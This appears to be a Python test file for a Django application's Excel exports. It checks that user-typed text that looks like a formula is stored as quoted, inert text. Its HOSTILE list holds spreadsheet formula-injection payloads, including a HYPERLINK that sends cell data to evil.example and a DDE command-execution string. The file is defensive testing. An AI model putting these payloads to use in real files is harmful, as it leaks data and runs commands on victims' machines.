"""Every Excel file shenbao writes keeps what people typed as text: no cell is ever a formula, and a text
that a spreadsheet would read as one on editing carries the quote prefix."""

import io
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse
from django.utils import timezone

from shenbao.documents.sealing import confirm_list, seal_application
from shenbao.documents.spreadsheets import Sheet, workbook
from shenbao.review import services

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
    " =1+1",
]


def _cells(xlsx: bytes):
    book = openpyxl.load_workbook(io.BytesIO(xlsx))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _assert_inert(xlsx: bytes, typed: list[str]):
    cells = _cells(xlsx)
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a cell holds a formula"
    for text in typed:
        # XlsxWriter stores a carriage return as the escape _x000D_, which openpyxl leaves as it is.
        matching = [c for c in cells if str(c.value).replace("_x000D_", "\r") == text]
        assert matching, f"{text!r} missing or changed"
        assert all(c.data_type == "s" and c.quotePrefix for c in matching)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_value_that_looks_like_a_formula_is_written_as_quoted_text(text):
    _assert_inert(workbook(Sheet("表", ["标题"], [[text]])), [text])


def test_plain_text_numbers_and_blanks_keep_their_kind():
    cells = _cells(workbook(Sheet("表", ["a", "b", "c"], [["0471-1234567", 500000, None], ["中文", 1.5, ""]])))
    values = {c.coordinate: (c.value, c.data_type) for c in cells}
    assert values["A2"] == ("0471-1234567", "s") and values["B2"] == (500000, "n") and values["B3"] == (1.5, "n")


def test_a_template_types_its_columns_as_text_and_instructions_need_no_header_row():
    book = openpyxl.load_workbook(
        io.BytesIO(
            workbook(
                Sheet("模板", ["身份证号"], [["110101198001010010"]], widths={0: 22}, typed_as_text=True),
                Sheet("填写说明", [], [["第一行"], ["第二行"]]),
            )
        )
    )
    template, notes = book.worksheets
    assert template.column_dimensions["A"].width > 22 and template["A2"].number_format == "@"
    assert [row[0] for row in notes.iter_rows(values_only=True)] == ["第一行", "第二行"]


def test_only_the_spreadsheet_helper_writes_excel_files():
    """Any new export must use `spreadsheets.workbook`: no other module imports XlsxWriter."""
    root = Path(__file__).resolve().parents[2]
    writers = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if "xlsxwriter" in path.read_text(encoding="utf-8")
        and path.name not in ("spreadsheets.py", Path(__file__).name)
    ]
    assert writers == []


@pytest.fixture
def hostile_submitted(make_submitted, applicant):
    return make_submitted(applicant, title=HOSTILE[0])


def test_the_departments_export_keeps_a_formula_title_as_text(client, hostile_submitted, department_staff):
    client.force_login(department_staff)
    response = client.get(reverse("review:export_applications"))
    assert response.status_code == 200
    _assert_inert(response.content, [HOSTILE[0]])


def test_the_confirmed_lists_excel_keeps_a_formula_title_as_text(hostile_submitted, admin, staff):
    now = timezone.now()
    services.approve(hostile_submitted, admin, now)
    seal_application(hostile_submitted, admin, now)
    services.submit_to_recommender(hostile_submitted, admin, now)
    services.recommend(hostile_submitted, staff, now)
    entry = confirm_list(staff.recommender, hostile_submitted.call, staff, now)
    _assert_inert(entry.xlsx.read(), [HOSTILE[0]])
